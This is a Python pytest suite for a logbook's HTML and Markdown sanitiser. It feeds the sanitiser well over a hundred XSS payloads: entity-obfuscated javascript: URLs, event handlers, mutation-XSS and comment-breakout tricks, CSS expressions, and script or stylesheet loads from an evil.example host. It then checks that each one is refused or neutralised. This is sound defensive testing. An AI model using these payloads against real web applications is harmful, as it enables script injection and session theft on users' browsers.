"""The logbook's rich-text sanitiser (catalogue.domain.markup) against XSS payloads.

Every payload, written as HTML and as Markdown, is either refused (InvalidCommand naming the
field) or rendered to HTML that an independent parser (the standard library's html.parser;
html5lib and lxml are not installed) finds free of scripts, event handlers, dangerous URLs and
images that are not the entry's own attachments.
"""

from __future__ import annotations

import html
import re
from dataclasses import dataclass, field
from html.parser import HTMLParser

import pytest

from catalogue.domain.markup import Rendered, render, text_of
from catalogue.errors import InvalidCommand

ENTRY = "12345678-1234-4234-8234-123456789abc"
ATT = f"/api/v1/logbook/entries/{ENTRY}/attachments/" + "ab" * 32
#: What an image may show, written independently of the product's pattern.
ATTACHMENT_URL = re.compile(
    r"/api/v1/logbook/entries/[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}"
    r"/attachments/[0-9a-f]{64}"
)
FORBIDDEN_ELEMENTS = frozenset(
    {
        "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "svg",
        "math", "link", "meta", "base", "form", "input", "button", "textarea", "select",
        "template", "noscript", "video", "audio", "source", "bgsound", "layer", "xss",
    }
)  # fmt: skip
URL_ATTRIBUTES = frozenset(
    {"href", "src", "srcset", "action", "formaction", "background", "poster", "data",
     "lowsrc", "dynsrc", "xlink:href", "cite", "longdesc", "ping", "codebase", "manifest"}
)  # fmt: skip
SAFE_SCHEMES = frozenset({"http", "https", "mailto"})
#: Browsers drop these from URLs before reading the scheme (`java\tscript:`).
URL_NOISE = re.compile(r"[\x00-\x20\x7f\s]+")
SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):")


@dataclass
class Element:
    tag: str
    attrs: list[tuple[str, str | None]] = field(default_factory=list)


class Inspector(HTMLParser):
    """Every start tag of the output, with its attributes as a browser would decode them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[Element] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append(Element(tag, attrs))

    handle_startendtag = handle_starttag


def elements_of(fragment: str) -> list[Element]:
    inspector = Inspector()
    inspector.feed(fragment)
    inspector.close()
    return inspector.elements


def scheme_of(url: str) -> str | None:
    # html.parser has decoded the entities once, as a browser does; unescape again in case
    # the serialiser left some, then drop whitespace and control characters.
    cleaned = URL_NOISE.sub("", html.unescape(url)).lower()
    found = SCHEME.match(cleaned)
    return None if found is None else found.group(1)


#: The sanitiser's serialiser writes tags in one regular form (lower-case names, every value
#: double-quoted, `<`, `>` and `"` escaped inside values, no comments or declarations), so a
#: plain tokenizer can read them too. It must see the same elements as html.parser: where the
#: two disagree (comment tricks are read differently by html.parser and by browsers), the
#: output is not in that form and cannot be trusted.
START_TAG = re.compile(r'<([a-z][a-z0-9]*)((?:\s+[a-z][a-z0-9:_-]*="[^"<>]*")*)\s*/?>')
END_TAG = re.compile(r"</([a-z][a-z0-9]*)\s*>")
ATTRIBUTE = re.compile(r'\s+([a-z][a-z0-9:_-]*)="([^"<>]*)"')


def regular_elements(output: str) -> tuple[list[Element], list[str]]:
    """The start tags as a plain tokenizer reads them, and every `<` that starts no tag."""
    elements, stray = [], []
    for position in (m.start() for m in re.finditer("<", output)):
        tag = START_TAG.match(output, position)
        if tag is not None:
            attrs: list[tuple[str, str | None]] = [
                (n, html.unescape(v)) for n, v in ATTRIBUTE.findall(tag.group(2))
            ]
            elements.append(Element(tag.group(1), attrs))
        elif END_TAG.match(output, position) is None:
            stray.append(output[position : position + 30])
    return elements, stray


def problems_in(output: str) -> list[str]:
    """What would make the output unsafe to show; empty if it is safe."""
    regular, stray = regular_elements(output)
    problems = [f"markup outside the serialiser's form: {s!r}" for s in stray]
    parsed = elements_of(output)
    if regular != parsed:
        problems.append(f"tokenizers disagree: {regular} != {parsed}")
    for element in parsed:
        if element.tag in FORBIDDEN_ELEMENTS or ":" in element.tag:
            problems.append(f"<{element.tag}> element")
        for name, value in element.attrs:
            if name.startswith("on"):
                problems.append(f"event handler {name}= on <{element.tag}>")
            if name in {"style", "srcset", "srcdoc", "formaction", "action"}:
                problems.append(f"{name}= on <{element.tag}>")
            if name in URL_ATTRIBUTES and value is not None:
                scheme = scheme_of(value)
                if scheme is not None and scheme not in SAFE_SCHEMES:
                    problems.append(f"{scheme}: URL in {name}= on <{element.tag}>")
            if (
                element.tag == "img"
                and name == "src"
                and (value is None or not ATTACHMENT_URL.fullmatch(value.strip(" \t\n\r\f")))
            ):
                problems.append(f"<img src={value!r}> is not an attachment")
    return problems


#: Raw-text and RCDATA elements: a browser reads what follows them as text up to their end
#: tag, where html.parser reads tags, so a script hides from the check in an attribute that a
#: browser splits at the end tag. Each is refused, whatever follows it.
RAW_TEXT_ELEMENTS = ("title", "xmp", "noembed", "noframes", "plaintext", "listing")
RAW_TEXT_PAYLOADS = [
    pytest.param(f'<{name}><p title="</{name}><img src=x onerror=alert(1)>">',
                 id=f"raw-text-{name}")
    for name in RAW_TEXT_ELEMENTS
]  # fmt: skip

PAYLOADS = [
    # script elements in many spellings
    pytest.param("<script>alert(1)</script>", id="script-plain"),
    pytest.param("<SCRIPT>alert(1)</SCRIPT>", id="script-upper"),
    pytest.param("<ScRiPt>alert(1)</sCrIpT>", id="script-mixed-case"),
    pytest.param('<script src="https://evil.example/xss.js"></script>', id="script-src"),
    pytest.param('<script/xss src="https://evil.example/x.js"></script>', id="script-slash"),
    pytest.param("<script>alert(1)", id="script-unclosed"),
    pytest.param("<scr<script>ipt>alert(1)</scr</script>ipt>", id="script-nested"),
    pytest.param("<script >alert(1)</script >", id="script-spaces"),
    pytest.param("<<script>alert(1);//<</script>", id="script-extra-open"),
    pytest.param("</title><script>alert(1)</script>", id="script-after-title"),
    pytest.param("<scr\x00ipt>alert(1)</script>", id="script-nul-in-name"),
    pytest.param('<IMG """><SCRIPT>alert(1)</SCRIPT>">', id="script-after-malformed-img"),
    pytest.param("hello <script>alert(1)</script> world", id="script-inline"),
    # event handlers on many tags
    pytest.param("<img src=x onerror=alert(1)>", id="img-onerror"),
    pytest.param("<IMG SRC=x ONERROR=alert(1)>", id="img-onerror-upper"),
    pytest.param("<img/src=x/onerror=alert(1)>", id="img-onerror-slashes"),
    pytest.param("<img src=`x` onerror=`alert(1)`>", id="img-onerror-backticks"),
    pytest.param("<img src=x onerror=alert(1)//", id="img-onerror-unclosed"),
    pytest.param("<img src=x:alert(alt) onerror=eval(src) alt=0>", id="img-onerror-eval"),
    pytest.param(f'<img src="{ATT}" onload="alert(1)">', id="attachment-img-onload"),
    pytest.param("<body onload=alert(1)>", id="body-onload"),
    pytest.param('<div onmouseover="alert(1)">x</div>', id="div-onmouseover"),
    pytest.param('<p onclick="alert(1)">x</p>', id="p-onclick"),
    pytest.param('<a href="https://example.org" onmouseover="alert(1)">x</a>', id="a-onmouseover"),
    pytest.param("<a onclick=alert(1)>x</a>", id="a-onclick-unquoted"),
    pytest.param("<details open ontoggle=alert(1)><summary>x</summary></details>",
                 id="details-ontoggle"),
    pytest.param("<input autofocus onfocus=alert(1)>", id="input-onfocus"),
    pytest.param("<marquee onstart=alert(1)>x</marquee>", id="marquee-onstart"),
    pytest.param("<video><source onerror=alert(1)></video>", id="video-source-onerror"),
    pytest.param("<audio src=x onerror=alert(1)>", id="audio-onerror"),
    pytest.param("<style/onload=alert(1)>", id="style-onload"),
    pytest.param("<isindex type=image src=1 onerror=alert(1)>", id="isindex"),
    # svg and math
    pytest.param("<svg onload=alert(1)>", id="svg-onload"),
    pytest.param("<svg/onload=alert(1)>", id="svg-slash-onload"),
    pytest.param("<svg><script>alert(1)</script></svg>", id="svg-script"),
    pytest.param('<svg><animate attributeName="href" values="javascript:alert(1)"/>'
                 "<a><text>x</text></a></svg>", id="svg-animate-href"),
    pytest.param('<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>',
                 id="math-link"),
    pytest.param('<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">'
                 "x</maction></math>", id="math-maction"),
    # javascript:, vbscript: and data: URLs, with entities, tabs, newlines and mixed case
    pytest.param('<a href="javascript:alert(1)">x</a>', id="a-javascript"),
    pytest.param('<a href="JaVaScRiPt:alert(1)">x</a>', id="a-javascript-mixed-case"),
    pytest.param("<a href=javascript:alert(1)>x</a>", id="a-javascript-unquoted"),
    pytest.param('<a/href="javascript:alert(1)">x</a>', id="a-slash-href"),
    pytest.param('<a  href  =  "javascript:alert(1)">x</a>', id="a-spaced-equals"),
    pytest.param('<a href="javascript&colon;alert(1)">x</a>', id="a-named-entity-colon"),
    pytest.param('<a href="&#106;avascript:alert(1)">x</a>', id="a-decimal-entity"),
    pytest.param('<a href="&#x6A;&#x61;vascript&#x3A;alert(1)">x</a>', id="a-hex-entities"),
    pytest.param('<a href="javas&#99;ript:alert(1)">x</a>', id="a-entity-inside"),
    pytest.param('<a href="jav&#x09;ascript:alert(1)">x</a>', id="a-tab-entity"),
    pytest.param('<a href="jav&NewLine;ascript&colon;alert(1)">x</a>', id="a-newline-entity"),
    pytest.param('<a href="&Tab;javascript:alert(1)">x</a>', id="a-leading-tab-entity"),
    pytest.param('<a href="java\nscript:alert(1)">x</a>', id="a-newline"),
    pytest.param('<a href="\x01javascript:alert(1)">x</a>', id="a-leading-control"),
    pytest.param('<a href="javascript\x00:alert(1)">x</a>', id="a-nul-before-colon"),
    pytest.param('<a href="   javascript:alert(1)">x</a>', id="a-leading-spaces"),
    pytest.param('<a href=" &#x0;javascript:alert(1)">x</a>', id="a-nul-entity"),
    pytest.param('<a href="vbscript:msgbox(1)">x</a>', id="a-vbscript"),
    pytest.param('<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
                 id="a-data-html"),
    pytest.param('<a xlink:href="javascript:alert(1)">x</a>', id="a-xlink-href"),
    pytest.param('<a href="https://example.org" ping="https://evil.example/">x</a>', id="a-ping"),
    pytest.param('<blockquote cite="javascript:alert(1)">x</blockquote>', id="blockquote-cite"),
    pytest.param('<img src="javascript:alert(1)">', id="img-javascript"),
    pytest.param("<IMG SRC=javascript:alert('XSS')>", id="img-javascript-unquoted"),
    pytest.param("<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
                 "&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>", id="img-decimal-entities"),
    pytest.param("<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A"
                 "&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>", id="img-hex-entities-no-semicolon"),
    pytest.param("<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114"
                 "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114"
                 "&#0000116&#0000040&#0000049&#0000041>", id="img-padded-entities"),
    pytest.param('<IMG SRC="jav\tascript:alert(1);">', id="img-tab"),
    pytest.param('<IMG SRC="jav&#x09;ascript:alert(1);">', id="img-tab-entity"),
    pytest.param('<IMG SRC="jav&#x0A;ascript:alert(1);">', id="img-newline-entity"),
    pytest.param('<IMG SRC="jav&#x0D;ascript:alert(1);">', id="img-carriage-return-entity"),
    pytest.param('<IMG SRC=" &#14;  javascript:alert(1);">', id="img-leading-control-entity"),
    pytest.param("<IMG SRC='vbscript:msgbox(1)'>", id="img-vbscript"),
    pytest.param('<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
                 id="img-data-svg"),
    pytest.param('<IMG DYNSRC="javascript:alert(1)">', id="img-dynsrc"),
    pytest.param('<IMG LOWSRC="javascript:alert(1)">', id="img-lowsrc"),
    pytest.param('<BGSOUND SRC="javascript:alert(1);">', id="bgsound"),
    pytest.param('<TABLE BACKGROUND="javascript:alert(1)"><tr><td>x</td></tr></TABLE>',
                 id="table-background"),
    pytest.param('<TABLE><TD BACKGROUND="javascript:alert(1)">x</TD></TABLE>',
                 id="td-background"),
    # external resources
    pytest.param('<img src="https://evil.example/track.png">', id="img-external"),
    pytest.param('<img src="//evil.example/track.png">', id="img-protocol-relative"),
    pytest.param(f'<img src="{ATT}?x=1">', id="img-attachment-with-query"),
    pytest.param(f'<img src="{ATT.upper()}">', id="img-attachment-upper-case"),
    pytest.param(f'<img src="{ATT}" srcset="https://evil.example/a.png 2x">', id="img-srcset"),
    pytest.param('<LAYER SRC="https://evil.example/x.html"></LAYER>', id="layer"),
    # frames, objects, embeds
    pytest.param('<iframe src="javascript:alert(1)"></iframe>', id="iframe-javascript"),
    pytest.param('<iframe src="https://evil.example/"></iframe>', id="iframe-external"),
    pytest.param('<iframe srcdoc="<script>alert(1)</script>"></iframe>', id="iframe-srcdoc"),
    pytest.param('<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>', id="frameset"),
    pytest.param('<object data="javascript:alert(1)"></object>', id="object-data"),
    pytest.param('<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/x.html"></OBJECT>',
                 id="object-scriptlet"),
    pytest.param('<EMBED SRC="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zdmc+"'
                 ' type="image/svg+xml">', id="embed-data"),
    pytest.param('<applet code="x.class"></applet>', id="applet"),
    # styles
    pytest.param("<style>body{background:url('javascript:alert(1)')}</style>", id="style-url"),
    pytest.param("<STYLE>@import'https://evil.example/xss.css';</STYLE>", id="style-import"),
    pytest.param('<div style="background-image: url(javascript:alert(1))">x</div>',
                 id="style-attr-url"),
    pytest.param('<div style="width: expression(alert(1));">x</div>', id="style-expression"),
    pytest.param('<div style="xss:expr/*XSS*/ession(alert(1))">x</div>',
                 id="style-expression-split-by-comment"),
    pytest.param('<IMG STYLE="xss:expr/*XSS*/ession(alert(1))">', id="img-style-expression"),
    pytest.param('<div style="background:&#117;rl(https://evil.example/a.png)">x</div>',
                 id="style-entity-url"),
    pytest.param('<DIV STYLE="background-image:\\0075\\0072\\006C\\0028javascript:alert(1)'
                 '\\0029">x</DIV>', id="style-css-escapes"),
    pytest.param('<div style="-moz-binding:url(https://evil.example/x.xml#xss)">x</div>',
                 id="style-moz-binding"),
    pytest.param('<XSS STYLE="behavior: url(xss.htc);">', id="style-behavior"),
    # meta refresh, base, link, form
    pytest.param('<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
                 id="meta-refresh-javascript"),
    pytest.param('<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,'
                 'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">', id="meta-refresh-data"),
    pytest.param('<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7">'
                 "</HEAD>+ADw-SCRIPT+AD4-alert(1);+ADw-/SCRIPT+AD4-", id="meta-utf7"),
    pytest.param('<BASE HREF="javascript:alert(1);//">', id="base-javascript"),
    pytest.param('<base href="https://evil.example/">', id="base-external"),
    pytest.param('<LINK REL="stylesheet" HREF="javascript:alert(1);">', id="link-stylesheet"),
    pytest.param('<form action="javascript:alert(1)"><button>x</button></form>',
                 id="form-action"),
    pytest.param('<button formaction="javascript:alert(1)">x</button>', id="button-formaction"),
    # mutation XSS and parser differentials
    pytest.param('<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
                 id="mxss-noscript-title"),
    pytest.param("<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
                 id="mxss-noscript-style"),
    pytest.param("<template><img src=x onerror=alert(1)></template>", id="mxss-template"),
    pytest.param("<select><style></select><img src=x onerror=alert(1)></style></select>",
                 id="mxss-select-style"),
    pytest.param("<textarea></textarea><img src=x onerror=alert(1)>", id="mxss-textarea"),
    pytest.param('<xmp><p title="</xmp><img src=x onerror=alert(1)>">', id="mxss-xmp"),
    pytest.param("<plaintext><img src=x onerror=alert(1)>", id="mxss-plaintext"),
    pytest.param("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                 id="mxss-math-mglyph"),
    pytest.param('<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
                 id="mxss-svg-style"),
    pytest.param("<form><math><mtext></form><form><mglyph><style></math>"
                 "<img src onerror=alert(1)>", id="mxss-form-math"),
    pytest.param('<p title="x"><img src=x onerror=alert(1)>">', id="attribute-breakout"),
    pytest.param("<p title=x><img src=x onerror=alert(1)>>", id="attribute-unquoted-breakout"),
    pytest.param('<p title="--><img src=x onerror=alert(1)>">x</p>', id="comment-in-attribute"),
    # comments and declarations
    pytest.param('<!--<img src="--><img src=x onerror=alert(1)//">', id="comment-breakout"),
    pytest.param("<!--><img src=x onerror=alert(1)>-->", id="comment-abrupt-close"),
    pytest.param("<!-- --!><img src=x onerror=alert(1)> -->", id="comment-bang-close"),
    pytest.param("<div><!--</div><img src=x onerror=alert(1)>--></div>", id="comment-in-div"),
    pytest.param("<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->",
                 id="comment-conditional"),
    pytest.param('<! foo="><script>alert(1)</script>">', id="comment-bogus"),
    pytest.param("<![CDATA[<]]><script>alert(1)</script>", id="cdata"),
    pytest.param('<? foo="><script>alert(1)</script>">', id="processing-instruction"),
    pytest.param('<!DOCTYPE x [<!ENTITY xss "<script>alert(1)</script>">]><p>&xss;</p>',
                 id="doctype-entity"),
    pytest.param('<html xmlns:xss><?import namespace="xss" implementation='
                 '"https://evil.example/x.htc"><xss:xss>x</xss:xss></html>', id="xml-namespace"),
    # unclosed and malformed tags
    pytest.param("<<img src=x onerror=alert(1)//<", id="double-open"),
    pytest.param('<IMG SRC="javascript:alert(1)"', id="half-open-img"),
    pytest.param('<a href="javascript:alert(1)"', id="half-open-a"),
    pytest.param("<img src=x onerror=alert(1)", id="img-without-close"),
    # Markdown links and images
    pytest.param("[click](javascript:alert(1))", id="md-link-javascript"),
    pytest.param("[click](JaVaScRiPt:alert(1))", id="md-link-javascript-mixed-case"),
    pytest.param("[click](javascript&#58;alert(1))", id="md-link-entity-colon"),
    pytest.param("[click](&#x6A;avascript:alert(1))", id="md-link-hex-entity"),
    pytest.param("[click](java&#x09;script:alert(1))", id="md-link-tab-entity"),
    pytest.param("[click](java\\script:alert(1))", id="md-link-backslash"),
    pytest.param("[click](<javascript:alert(1)>)", id="md-link-angle-brackets"),
    pytest.param("[click](vbscript:msgbox(1))", id="md-link-vbscript"),
    pytest.param("[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
                 id="md-link-data"),
    pytest.param("<javascript:alert(1)>", id="md-autolink-javascript"),
    pytest.param("[click][x]\n\n[x]: javascript:alert(1)", id="md-reference-javascript"),
    pytest.param('[a](https://example.org "x\\" onmouseover=\\"alert(1)")',
                 id="md-link-title-breakout"),
    pytest.param("![img](javascript:alert(1))", id="md-image-javascript"),
    pytest.param("![img](https://evil.example/track.png)", id="md-image-external"),
    pytest.param("![img](data:image/png;base64,iVBORw0KGgo=)", id="md-image-data"),
    pytest.param('![img](x "onerror=alert(1)")', id="md-image-title"),
    pytest.param(f"![img]({ATT}?x=1)", id="md-image-attachment-with-query"),
    pytest.param("<div>\n<img src=x onerror=alert(1)>\n</div>", id="md-html-block"),
    pytest.param('<a href="javascript:alert(1)">x</a> and **bold**', id="md-inline-html-link"),
    pytest.param('```"><script>alert(1)</script>\nx\n```', id="md-fence-info-breakout"),
    pytest.param('```x" onerror="alert(1)\ncode\n```', id="md-fence-info-attribute"),
    # raw-text and RCDATA elements (refused: see test_raw_text_elements_are_refused)
    *RAW_TEXT_PAYLOADS,
]  # fmt: skip


def test_enough_payloads() -> None:
    assert len(PAYLOADS) >= 60
    assert len({p.id for p in PAYLOADS}) == len(PAYLOADS)


def outcome(markup: str, source: str, field: str) -> Rendered | InvalidCommand:
    """The rendered content, or the refusal."""
    try:
        return render(markup, source, field)
    except InvalidCommand as refused:
        return refused


@pytest.mark.parametrize("markup", ["html", "markdown"])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_refused_or_rendered_harmless(payload: str, markup: str) -> None:
    field = f"content.{markup}"
    rendered = outcome(markup, payload, field)
    if isinstance(rendered, InvalidCommand):
        assert type(rendered) is InvalidCommand
        assert rendered.field == field
        assert rendered.detail.startswith(f"{field}: ")
        return
    assert problems_in(rendered.html) == []
    # What search indexes is the text of what is shown, nothing more.
    assert rendered.text == text_of(rendered.html)


@pytest.mark.parametrize("markup", ["html", "markdown"])
@pytest.mark.parametrize("payload", RAW_TEXT_PAYLOADS)
def test_raw_text_elements_are_refused(payload: str, markup: str) -> None:
    # Rendered harmless is not enough here: the check must name the element, not rely on
    # the cleaner reading the payload as a browser would.
    field = f"content.{markup}"
    element = payload[1 : payload.index(">")]
    with pytest.raises(InvalidCommand) as raised:
        render(markup, payload, field)
    assert type(raised.value) is InvalidCommand
    assert raised.value.field == field
    assert f"<{element}>" in raised.value.detail


# The checker itself must see what it looks for, or the property above proves nothing.
CHECKER = [
    pytest.param("<script>alert(1)</script>", "<script> element", id="script"),
    pytest.param("<svg><a>x</a></svg>", "<svg> element", id="svg"),
    pytest.param('<p onclick="x">y</p>', "event handler onclick= on <p>", id="handler"),
    pytest.param('<a href="jav&#x09;ascript:x">y</a>', "javascript: URL in href= on <a>",
                 id="entity-tab-javascript"),
    pytest.param('<a href=" \x01JavaScript:x">y</a>', "javascript: URL in href= on <a>",
                 id="control-mixed-case-javascript"),
    pytest.param('<a href="data:text/html,x">y</a>', "data: URL in href= on <a>", id="data"),
    pytest.param('<img src="https://e.example/a.png">', "is not an attachment", id="external-img"),
    pytest.param(f'<img src="{ATT}x">', "is not an attachment", id="attachment-suffix"),
    pytest.param('<div style="color:red">x</div>', "style= on <div>", id="style"),
    pytest.param("<!--><img src=x onerror=alert(1)>-->", "outside the serialiser's form",
                 id="comment-html-parser-misreads"),
    pytest.param("<img src='/x' onerror=alert(1)>", "outside the serialiser's form",
                 id="single-quoted-attribute"),
    pytest.param('<a href="https://e.org" title="a<b">x</a>', "outside the serialiser's form",
                 id="unescaped-lt-in-value"),
]  # fmt: skip


@pytest.mark.parametrize(("output", "problem"), CHECKER)
def test_checker_finds_problems(output: str, problem: str) -> None:
    assert any(problem in found for found in problems_in(output))


def test_checker_passes_safe_output() -> None:
    safe = (
        f'<p><a href="https://example.org" rel="noopener">x</a> <a href="mailto:a@b.org">m</a>'
        f' <a href="/relative">r</a></p><img src="{ATT}" alt="x">'
    )
    assert problems_in(safe) == []


# -- safe content keeps its formatting --------------------------------------------------------

FORMATTING = [
    pytest.param("markdown", "**bold** and *italic*",
                 "<p><strong>bold</strong> and <em>italic</em></p>\n", id="md-emphasis"),
    pytest.param("markdown", "- one\n- two", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n",
                 id="md-bullet-list"),
    pytest.param("markdown", "1. one\n2. two", "<ol>\n<li>one</li>\n<li>two</li>\n</ol>\n",
                 id="md-ordered-list"),
    pytest.param("markdown", "3. three\n4. four",
                 '<ol start="3">\n<li>three</li>\n<li>four</li>\n</ol>\n', id="md-list-start"),
    pytest.param("markdown", "| a | b |\n|---|---|\n| 1 | 2 |",
                 "<table>\n<thead>\n<tr>\n<th>a</th>\n<th>b</th>\n</tr>\n</thead>\n<tbody>\n"
                 "<tr>\n<td>1</td>\n<td>2</td>\n</tr>\n</tbody>\n</table>\n", id="md-table"),
    pytest.param("markdown", "```python\nprint(1 < 2)\n```",
                 '<pre><code class="language-python">print(1 &lt; 2)\n</code></pre>\n',
                 id="md-fenced-code-language"),
    pytest.param("markdown", "```html\n<script>alert(1)</script>\n```",
                 '<pre><code class="language-html">&lt;script&gt;alert(1)&lt;/script&gt;\n'
                 "</code></pre>\n", id="md-script-shown-as-code"),
    pytest.param("markdown", "use `<img onerror=x>` with care",
                 "<p>use <code>&lt;img onerror=x&gt;</code> with care</p>\n",
                 id="md-inline-code-escaped"),
    pytest.param("markdown", "# Title\n\n> quoted",
                 "<h1>Title</h1>\n<blockquote>\n<p>quoted</p>\n</blockquote>\n",
                 id="md-heading-quote"),
    pytest.param("markdown", "~~gone~~", "<p><s>gone</s></p>\n", id="md-strikethrough"),
    pytest.param("markdown", "[docs](https://example.org/a?b=1&c=2)",
                 '<p><a href="https://example.org/a?b=1&amp;c=2" '
                 'rel="noopener noreferrer nofollow">docs</a></p>\n', id="md-link"),
    pytest.param("markdown", "<mailto:a@example.org>",
                 '<p><a href="mailto:a@example.org" rel="noopener noreferrer nofollow">'
                 "mailto:a@example.org</a></p>\n", id="md-mail-autolink"),
    pytest.param("markdown", "x < y and 3 > 2", "<p>x &lt; y and 3 &gt; 2</p>\n",
                 id="md-comparison-text"),
    pytest.param("html", "<p><b>bold</b> <i>it</i> <u>u</u> <sub>2</sub><sup>3</sup></p>",
                 "<p><b>bold</b> <i>it</i> <u>u</u> <sub>2</sub><sup>3</sup></p>",
                 id="html-inline"),
    pytest.param("html", "<table><tr><td colspan=\"2\">1</td></tr></table>",
                 '<table><tbody><tr><td colspan="2">1</td></tr></tbody></table>',
                 id="html-table"),
    pytest.param("html", '<pre><code class="language-python">x = 1</code></pre>',
                 '<pre><code class="language-python">x = 1</code></pre>',
                 id="html-code-language"),
    pytest.param("html", '<code class="evil">x</code>', "<code>x</code>",
                 id="html-other-class-dropped"),
    pytest.param("html", '<span class="x" id="y" style="color:red">s</span>', "<span>s</span>",
                 id="html-presentational-attributes-dropped"),
    pytest.param("html", "<unknown>kept text</unknown>", "kept text",
                 id="html-unknown-element-unwrapped"),
    pytest.param("html", '<a href="https://example.org" target="_blank" rel="opener">x</a>',
                 '<a href="https://example.org" rel="noopener noreferrer nofollow">x</a>',
                 id="html-link-rel-replaced"),
    pytest.param("html", '<a href="/api/v1/logbook">r</a>',
                 '<a href="/api/v1/logbook" rel="noopener noreferrer nofollow">r</a>',
                 id="html-relative-link"),
    pytest.param("html", "x < y &amp; z", "x &lt; y &amp; z", id="html-text-escaped"),
    pytest.param("html", f'<p><img src="{ATT}" alt="crystal" width="64"></p>',
                 f'<p><img src="{ATT}" alt="crystal" width="64"></p>', id="html-attachment-img"),
    pytest.param("markdown", f'![crystal]({ATT} "after soaking")',
                 f'<p><img src="{ATT}" alt="crystal" title="after soaking"></p>\n',
                 id="md-attachment-img"),
    pytest.param("markdown", "", "", id="md-empty"),
]  # fmt: skip


@pytest.mark.parametrize(("markup", "source", "expected"), FORMATTING)
def test_safe_content_keeps_its_formatting(markup: str, source: str, expected: str) -> None:
    rendered = render(markup, source, f"content.{markup}")
    assert rendered.html == expected
    assert problems_in(rendered.html) == []


def test_links_get_rel_noopener() -> None:
    rendered = render("markdown", "[a](https://a.example) [b](http://b.example)", "content")
    links = [e for e in elements_of(rendered.html) if e.tag == "a"]
    assert len(links) == 2
    for link in links:
        rel = dict(link.attrs)["rel"] or ""
        assert {"noopener", "noreferrer"} <= set(rel.split())


def test_unknown_format_is_refused_naming_the_field() -> None:
    with pytest.raises(InvalidCommand) as raised:
        render("rst", "*x*", "content.rst")
    assert raised.value.field == "content.rst"
    assert "markdown, html" in raised.value.detail


def test_attachment_src_with_spaces_is_kept_or_refused() -> None:
    rendered = outcome("html", f'<img src=" {ATT} " alt="crystal">', "content.html")
    if not isinstance(rendered, InvalidCommand):
        assert f'src="{ATT}"' in rendered.html


# -- text for search --------------------------------------------------------------------------

TEXT = [
    pytest.param("<p>beam</p><p>lost</p>", "beam lost", id="paragraphs"),
    pytest.param("<ul><li>one</li><li>two</li></ul>", "one two", id="list-items"),
    pytest.param("a<br>b", "a b", id="line-break"),
    pytest.param("<table><tr><th>x</th><td>y</td></tr></table>", "x y", id="table-cells"),
    pytest.param("<b>be</b>am", "beam", id="inline-joins"),
    pytest.param("<p>a &amp; b &lt;c&gt;</p>", "a & b <c>", id="entities-decoded"),
    pytest.param('a<img alt="crystal">b', "a crystal b", id="image-alt"),
    pytest.param("  many   spaces\n\nhere ", "many spaces here", id="whitespace-collapsed"),
    pytest.param("<h1>Beam</h1>\n<p>lost</p>\n", "Beam lost", id="markdown-shaped"),
    pytest.param("", "", id="empty"),
]


@pytest.mark.parametrize(("fragment", "words"), TEXT)
def test_text_of(fragment: str, words: str) -> None:
    assert text_of(fragment) == words


BLOCK_ENDS = [
    pytest.param("<p>beam</p>lost", id="paragraph"),
    pytest.param("<div>beam</div>lost", id="div"),
    pytest.param("<h4>beam</h4>lost", id="h4"),
    pytest.param("<dl><dt>beam</dt><dd>lost</dd></dl>", id="definition-list"),
    pytest.param("<blockquote>beam</blockquote>lost", id="blockquote"),
]


@pytest.mark.parametrize("fragment", BLOCK_ENDS)
def test_text_of_separates_block_elements(fragment: str) -> None:
    assert text_of(fragment).split() == ["beam", "lost"]


def test_rendered_text_is_what_search_indexes() -> None:
    rendered = render(
        "markdown",
        f"# Beam *lost*\n\n- refill at `10:00`\n\n![crystal 3]({ATT})\n\n[status](https://e.org)",
        "content.markdown",
    )
    assert isinstance(rendered, Rendered)
    assert rendered.text == "Beam lost refill at 10:00 crystal 3 status"
